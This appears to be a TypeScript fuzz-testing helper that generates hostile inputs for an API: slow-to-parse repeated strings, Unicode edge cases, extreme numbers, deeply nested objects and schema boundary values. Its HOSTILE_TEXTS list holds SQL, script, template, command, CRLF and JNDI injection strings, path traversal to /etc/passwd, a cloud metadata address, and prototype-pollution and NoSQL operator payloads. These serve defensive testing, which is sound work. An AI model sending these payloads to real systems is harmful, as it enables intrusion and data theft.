import { below, chance } from '../proof.ts'

/** One of these, chosen by the seed. */
export const oneOf = <T>(all: readonly T[]): T => all[below(all.length)] as T

const nested = (depth: number): unknown =>
  Array.from({ length: depth }).reduce<unknown>((inner, _none, at) => (at % 2 ? [inner] : { a: inner }), 1)

/** Text that has broken services: for databases, pages, shells, paths, templates, prototypes and people's eyes. */
/** Short to send, and slow to read for code that goes over it repeatedly. */
export const COSTLY_TEXTS: readonly string[] = [
  `danke${' für h'.repeat(24)} ${'x'.repeat(60)}`,
  'привет'.repeat(160),
  'research x1; '.repeat(120),
  '9^'.repeat(1_900),
  'a.'.repeat(1_900),
  `/${'.'.repeat(3_000)}/x`,
  ' '.repeat(3_000),
  '\n'.repeat(3_000),
  `${'\n '.repeat(1_500)}x`,
  '?!.'.repeat(1_000),
  '('.repeat(2_000),
  `${'[a]('.repeat(800)}`,
  '"'.repeat(2_000),
  '“'.repeat(2_000),
  'ﷺ'.repeat(1_900),
  `e${'\u0301'.repeat(3_000)}`,
  'İ'.repeat(2_000),
  '1,'.repeat(1_500),
  'every monday at 9 and '.repeat(90),
  'and then, plus '.repeat(120),
  `${'compare a with b and '.repeat(90)}`,
  'x'.repeat(3_999),
  'not '.repeat(700),
  'remember that I like tea. '.repeat(70),
]

export const HOSTILE_TEXTS: readonly string[] = [
  '',
  ' ',
  '\t\r\n',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\u202e\u2066txet',
  '\ufeff',
  '\u200b\u200d',
  '👩‍👩‍👧‍👦'.repeat(20),
  `e${'\u0301'.repeat(500)}`,
  'ﷺ'.repeat(100),
  '漢字かな交じり文',
  'İıſK',
  'x'.repeat(201),
  'x'.repeat(10_000),
  '\\',
  '"',
  "'",
  '`',
  "' or 1=1 --",
  "'; drop table identity.users; --",
  "\\'; select pg_sleep(9); --",
  '%',
  '_%_',
  '$1',
  '{}',
  '[]',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '0x10',
  '٣',
  '９',
  '９007199254740993',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '&lt;b&gt;',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '..\\..\\windows',
  '/etc/passwd\u0000.svg',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '$'.concat('{7*7}{{7*7}}<%= 7*7 %>'),
  '$'.concat('{jndi:ldap://elsewhere.example/a}'),
  '$(id)',
  '; id',
  '| id',
  '\r\nset-cookie: svc_session=1',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
  'me',
  'null\n',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '{00000000-0000-0000-0000-000000000000}',
  'urn:uuid:019a6f0e-5c1e-7c3a-9d55-8f1f0a2b3c4d',
  '019a6f0e5c1e7c3a9d558f1f0a2b3c4d',
  '0000-00-00T00:00:00Z',
  '2026-02-30T00:00:00Z',
  '9999-12-31T23:59:60Z',
  '+275760-09-13T00:00:00.001Z',
  '-infinity',
  'infinity',
  '0x0000000000000000000000000000000000000000',
  `0x${'f'.repeat(64)}`,
]

const HOSTILE_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  1,
  0.1,
  1.5,
  -1.5,
  1e-7,
  1e21,
  1e308,
  -1e308,
  2 ** 31,
  2 ** 31 - 1,
  -(2 ** 31),
  2 ** 32,
  2 ** 53,
  2 ** 53 - 1,
  -(2 ** 53),
  2 ** 63,
  2 ** 64,
  32_768,
  65_536,
]

/** As it appears in an address. */
export const textOf = (value: unknown): string =>
  typeof value === 'string' ? value : (JSON.stringify(value) ?? '')

/** A value of any kind. */
export function hostileValue(): unknown {
  const kind = chance()
  if (kind < 0.3) return oneOf(HOSTILE_TEXTS)
  if (kind < 0.45) return oneOf(COSTLY_TEXTS)
  if (kind < 0.65) return oneOf(HOSTILE_NUMBERS)
  return oneOf(OTHERS)()
}

const OTHERS: readonly (() => unknown)[] = [
  () => null,
  () => true,
  () => false,
  () => [],
  () => ({}),
  () => [null],
  () => [[]],
  () => ['a', 1, null, {}],
  () => nested(31),
  () => nested(40),
  () => nested(500),
  () => nested(5_000),
  () => Array.from({ length: 20_000 }, () => 0),
  () => Array.from({ length: 1_000 }, () => 0),
  () => Object.fromEntries(Array.from({ length: 400 }, (_none, at) => [`k${at}`, at])),
  () => JSON.parse('{"__proto__": {"role": "admin"}, "a": 1}'),
  () => ({ constructor: { prototype: { role: 'admin' } } }),
  () => ({ toString: 1, valueOf: 1, length: -1 }),
  () => ({ $gt: '', $ne: null }),
]

type Node = Readonly<Record<string, unknown>>

/** One of them, as long as it may be. */
export const costlyText = (lengthMax: number): string => repeated(oneOf(COSTLY_TEXTS), lengthMax)

/** Repeated up to this length. */
export const repeated = (text: string, length: number): string =>
  text
    .repeat(Math.ceil(length / text.length))
    .slice(0, length)
    .toWellFormed()

/** A value just at a bound of the schema, or just beyond; any value where it has none. */
export function boundValue(schema: unknown): unknown {
  const node = schema as Node
  const at: unknown[] = []
  for (const name of ['minimum', 'maximum'])
    if (name in node) for (const by of [-1, 0, 1]) at.push(Number(node[name]) + by)
  for (const name of ['minLength', 'maxLength'])
    if (name in node)
      for (const by of [-1, 0, 1])
        at.push(oneOf(['x', '漢', '😀', 'é']).repeat(Math.max(0, Number(node[name]) + by)))
  for (const name of ['minItems', 'maxItems'])
    if (name in node)
      for (const by of [-1, 0, 1])
        at.push(
          Array.from({ length: Math.min(2_000, Math.max(0, Number(node[name]) + by)) }, () => hostileValue()),
        )
  if ('maxLength' in node)
    for (let count = 0; count < 3; count++) at.push(costlyText(Number(node['maxLength'])))
  return at.length === 0 ? hostileValue() : oneOf(at)
}

/** Names that a body does not have. */
export const UNKNOWN_FIELDS: readonly string[] = [
  'id',
  'ownerId',
  'userId',
  'role',
  'isAdmin',
  'balance',
  'status',
  '__proto__',
  'constructor',
  'toString',
  '',
  'a.b',
  'a[0]',
  '$where',
]
